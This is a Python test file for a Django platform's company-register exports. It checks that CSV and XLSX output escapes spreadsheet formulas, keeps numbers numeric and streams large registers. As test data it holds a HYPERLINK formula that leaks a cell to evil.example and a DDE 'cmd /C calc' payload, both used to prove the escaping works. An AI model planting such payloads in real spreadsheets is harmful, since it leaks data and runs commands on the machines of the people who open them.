"""The register's exports carry no live formula, and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import TestCase
from django.urls import reverse
from django_scopes import scope
from openpyxl import load_workbook

from rse_platform.files.models import GeneratedDocument
from rse_platform.tenants.roles import Role
from tests.factories import CompanyFactory

pytestmark = pytest.mark.django_db

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def _export(client, tenant, fmt):
    """The CSV's bytes (streamed), or the XLSX's once the worker has built it."""
    kwargs = {"tenant_slug": tenant.slug}
    if fmt == "csv":
        response = client.get(reverse("company_export", kwargs={**kwargs, "fmt": fmt}))
        assert response.streaming
        return response, b"".join(response.streaming_content)
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(reverse("company_export_xlsx", kwargs=kwargs))
    with scope(tenant=tenant):
        document = GeneratedDocument.objects.get(kind="companies.register_xlsx")
    download = client.get(reverse("document_download", kwargs={**kwargs, "pk": document.pk}))
    return response, b"".join(download.streaming_content)


@pytest.fixture
def manager(client, tenant, make_person):
    client.force_login(make_person(tenant, Role.MANAGER))
    return client


@pytest.mark.parametrize("prefix", PREFIXES)
def test_it_neutralises_a_formula_in_the_csv(manager, tenant, prefix):
    name = f'{prefix}HYPERLINK("https://evil.example/?leak="&A2;"Cliquez")'
    CompanyFactory(tenant=tenant, name=name, headcount=12, annual_revenue=Decimal("1500000.50"))
    response, content = _export(manager, tenant, "csv")
    assert response["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["raison_sociale"] == f"'{name}"
    assert (row["effectif"], row["chiffre_affaires"]) == ("12", "1500000,50")


@pytest.mark.parametrize("prefix", PREFIXES)
def test_it_neutralises_a_formula_in_the_xlsx(manager, tenant, prefix):
    name = f"{prefix}cmd|' /C calc'!A0"
    CompanyFactory(tenant=tenant, name=name, headcount=12, annual_revenue=Decimal("1500000.50"))
    sheet = load_workbook(io.BytesIO(_export(manager, tenant, "xlsx")[1])).active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    # XML reads a carriage return back as a line feed: the apostrophe is what matters.
    assert cells["raison_sociale"].value == f"'{name}".replace("\r", "\n")
    assert cells["raison_sociale"].data_type == "s"
    assert cells["effectif"].value == 12 and cells["effectif"].data_type == "n"
    assert cells["chiffre_affaires"].value == 1500000.5
    assert cells["chiffre_affaires"].data_type == "n"


def test_ordinary_names_are_left_alone(manager, tenant):
    CompanyFactory(tenant=tenant, name="L'Atelier - Bois & Co")
    sheet = load_workbook(io.BytesIO(_export(manager, tenant, "xlsx")[1])).active
    assert sheet.cell(row=2, column=1).value == "L'Atelier - Bois & Co"


def test_it_streams_a_large_register_in_chunks(manager, tenant):
    CompanyFactory.create_batch(1200, tenant=tenant)
    response = manager.get(
        reverse("company_export", kwargs={"tenant_slug": tenant.slug, "fmt": "csv"})
    )
    chunks = list(response.streaming_content)
    assert len(chunks) >= 3  # 500 rows a chunk
    assert b"".join(chunks).decode("utf-8-sig").count("\n") == 1201


def test_the_xlsx_is_built_on_the_worker_and_the_register_follows_it(manager, tenant):
    CompanyFactory(tenant=tenant, name="Chez Nous")
    response, content = _export(manager, tenant, "xlsx")
    assert response.status_code == 302 and response.url.endswith("#export")
    with scope(tenant=tenant):
        document = GeneratedDocument.objects.get()
    assert document.status == GeneratedDocument.Status.READY
    assert document.filename.startswith("entreprises-") and document.filename.endswith(".xlsx")
    page = manager.get(response.url).content.decode()
    assert (
        reverse("document_download", kwargs={"tenant_slug": tenant.slug, "pk": document.pk}) in page
    )
    assert load_workbook(io.BytesIO(content)).active.cell(row=2, column=1).value == "Chez Nous"


def test_a_get_never_builds_the_xlsx_in_the_request(manager, tenant):
    url = reverse("company_export_xlsx", kwargs={"tenant_slug": tenant.slug})
    assert manager.get(url).status_code == 405
    with scope(tenant=tenant):
        assert not GeneratedDocument.objects.exists()
